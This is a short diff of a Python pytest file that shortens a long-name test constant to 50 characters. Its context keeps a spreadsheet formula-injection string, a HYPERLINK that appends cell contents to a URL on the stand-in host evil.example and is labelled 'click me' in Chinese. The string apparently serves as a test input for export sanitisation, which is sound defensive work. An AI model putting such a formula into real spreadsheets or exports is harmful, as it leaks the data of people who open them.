@@ -15,7 +15,7 @@ pytestmark = [
 ]
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&C2,"点我")'
-LONG = "A" * 60
+LONG = "A" * 50  # the longest name the roster takes (User.real_name)
 
 
 @pytest.mark.parametrize("name", ["lacking", "review"])
